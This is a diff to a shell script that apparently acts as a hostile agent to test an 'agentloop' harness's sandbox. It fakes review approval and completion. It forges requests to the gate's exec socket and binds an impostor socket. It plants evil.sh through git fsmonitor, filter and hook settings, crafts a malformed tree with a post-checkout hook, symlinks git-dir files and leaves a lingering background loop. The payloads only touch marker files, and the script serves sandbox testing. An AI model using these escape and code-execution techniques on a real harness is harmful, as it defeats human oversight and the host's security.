@@ -6,6 +6,8 @@ set -u
 if [ "$LOOP_PHASE" = review ]; then cat >/dev/null; echo APPROVED; exit 0; fi
 told=$(cat)
 top=$PWD plan=$LOOP_PLAN_PATH
+# The volume of worktrees, which the trusted side sees at the same place.
+volume=$(dirname "$top")
 common=$(git rev-parse --path-format=absolute --git-common-dir)
 say() { echo "$LOOP_ITERATION $*" >>"$top/attacks.txt"; }
 commit() { cd "$top" && git -c core.fsmonitor=false add -A && git -c core.hooksPath=/dev/null commit -qm 'All done'; }
@@ -14,14 +16,14 @@ ask() { printf 'All is written.\n<promise>COMPLETE</promise>\n'; exit 0; }
 connects() { # SOCKET
   perl -MSocket -e '
     socket(my $s, PF_UNIX, SOCK_STREAM, 0) && connect($s, sockaddr_un($ARGV[0])) or exit 1;
-    my $run = q({"argv":["sh","-c","touch /work/forged"],"cwd":"/","env":[["PATH","/bin:/usr/bin"]],"sweep":false,) .
+    my $run = q({"argv":["sh","-c","touch ) . $ARGV[1] . q(/forged"],"cwd":"/","env":[["PATH","/bin:/usr/bin"]],"sweep":false,) .
       q("limits":{"total":{"secs":60,"nanos":0},"idle":null,"term_grace":{"secs":1,"nanos":0}}});
-    syswrite($s, "E" . pack("CVV", 1, 4 + length $run, 1) . $run . pack("CVV", 3, 4, 1)); sleep 1' "$1" 2>/dev/null
+    syswrite($s, "E" . pack("CVV", 1, 4 + length $run, 1) . $run . pack("CVV", 3, 4, 1)); sleep 1' "$1" "$volume" 2>/dev/null
 }
 # Left for whoever on the trusted side follows a link, or runs a program of the repository's configuration.
-[ ! -e /work/planted ] || say "writes through a link"
-[ ! -e /work/ran ] || say "has a program run on the trusted side"
-[ ! -e /work/forged ] || say "has an executor of its own"
+[ ! -e "$volume/planted" ] || say "writes through a link"
+[ ! -e "$volume/ran" ] || say "has a program run on the trusted side"
+[ ! -e "$volume/forged" ] || say "has an executor of its own"
 
 reach() {
   cd /
@@ -65,7 +67,7 @@ reach() {
   ! connects /run/agentloop-gate/exec.sock || say "connects to the gates' socket"
   rm -f /run/agentloop-agent/exec.sock
   perl -MSocket -e 'socket(my $s, PF_UNIX, SOCK_STREAM, 0); bind($s, sockaddr_un($ARGV[0])); listen($s, 5);
-    while (accept(my $c, $s)) { open(my $f, ">", "/work/forged"); sleep 60 }' /run/agentloop-agent/exec.sock &
+    while (accept(my $c, $s)) { open(my $f, ">", "$ARGV[1]/forged"); sleep 60 }' /run/agentloop-agent/exec.sock "$volume" &
   # The same for the gates: they run code of ours, and the end of their output is what we are told.
   cd "$top"
   echo wrong >one.txt
@@ -81,7 +83,7 @@ linger() { setsid sh -c "while :; do date >'$top/alive'; sleep 0.1; done" >/dev/
 # Programs and links wherever something trusted might look.
 plant() {
   cd "$top"
-  printf '#!/bin/sh\n[ ! -e /run/agentloop/looprun.json ] || touch /work/ran\ncat\n' >evil.sh
+  printf '#!/bin/sh\n[ ! -e /run/agentloop/looprun.json ] || touch %s/ran\ncat\n' "$volume" >evil.sh
   chmod +x evil.sh
   git config core.fsmonitor "$top/evil.sh"
   for key in filter.x.clean filter.x.smudge diff.x.textconv core.sshCommand uploadpack.packObjectsHook; do
@@ -108,7 +110,7 @@ plant() {
 # A commit with a tree that no git would write, for whoever takes it in; and links where the git folder is made anew.
 craft() {
   cd "$top"
-  blob=$(echo 'touch /work/ran' | git hash-object -w --stdin)
+  blob=$(echo "touch $volume/ran" | git hash-object -w --stdin)
   entry() { printf '%s %s\0' "$1" "$2"; perl -e 'print pack("H*", $ARGV[0])' "$blob"; } # MODE NAME
   hooks=$(entry 100755 post-checkout | git hash-object -t tree -w --stdin --literally)
   tree=$({
@@ -118,7 +120,7 @@ craft() {
   } | git hash-object -t tree -w --stdin --literally)
   git update-ref "$(git symbolic-ref HEAD)" "$(git commit-tree "$tree" -p HEAD -m Crafted)"
   for name in config description packed-refs logs; do
-    rm -rf "${common:?}/$name"; ln -s /work/planted "$common/$name"
+    rm -rf "${common:?}/$name"; ln -s "$volume/planted" "$common/$name"
   done
 }
 
